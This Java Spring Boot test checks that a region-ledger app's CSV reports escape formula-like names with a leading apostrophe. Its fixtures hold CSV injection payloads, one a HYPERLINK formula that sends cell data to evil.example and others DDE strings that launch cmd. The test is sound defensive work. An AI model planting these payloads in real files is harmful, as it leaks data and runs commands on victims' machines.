package id.smartcity.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * Issue 16, row 3: names recorded as formulas come out of every CSV report (the dashboard's Download CSV too) as
 * text a spreadsheet does not run, the way OWASP advises: with a leading apostrophe. Ordinary names are untouched.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = "ledger.mongo.embedded.backend=MEMORY")
class CsvFormulaInjectionTest {
    @LocalServerPort
    int port;

    @DynamicPropertySource
    static void properties(DynamicPropertyRegistry registry) {
        LedgerApiContract.testProperties(registry);
    }

    @Test
    void formulaCellsInCsvReportsAreText() throws IOException {
        LedgerClient api = new LedgerClient(port, LedgerApiContract.CREDENTIALS);
        Map<String, String> names = new TreeMap<>(Map.of(
                "32.71", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Kota Bogor\")",
                "32.72", "+1+cmd|' /C calc'!A0",
                "32.73", "-2+3",
                "32.74", "@SUM(1+1)*cmd|' /C calc'!A0",
                "32.75", "Kota Banjar, Jawa Barat"));
        names.forEach((code, name) -> assertThat(api.post("/api/regions/" + code + "/selections", "operator",
                Commands.selection(name.replace("\"", "\\\""), "CITY", 2017, "2017-05-03")).status())
                .as(name).isEqualTo(201));

        for (String path : List.of("/api/cohorts/2017", "/api/regions?province=32")) {
            LedgerClient.Response csv = api.getAs(path, "reporter", "text/csv");
            assertThat(csv.status()).isEqualTo(200);
            Map<String, String> written = new TreeMap<>();
            for (CSVRecord record : CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                    .parse(new StringReader(csv.raw().body()))) {
                written.put(record.get("code"), record.get("name"));
            }
            assertThat(written).as(path).containsExactlyInAnyOrderEntriesOf(Map.of(
                    "32.71", "'" + names.get("32.71"), "32.72", "'" + names.get("32.72"),
                    "32.73", "'" + names.get("32.73"), "32.74", "'" + names.get("32.74"),
                    "32.75", "Kota Banjar, Jawa Barat"));
        }
    }
}
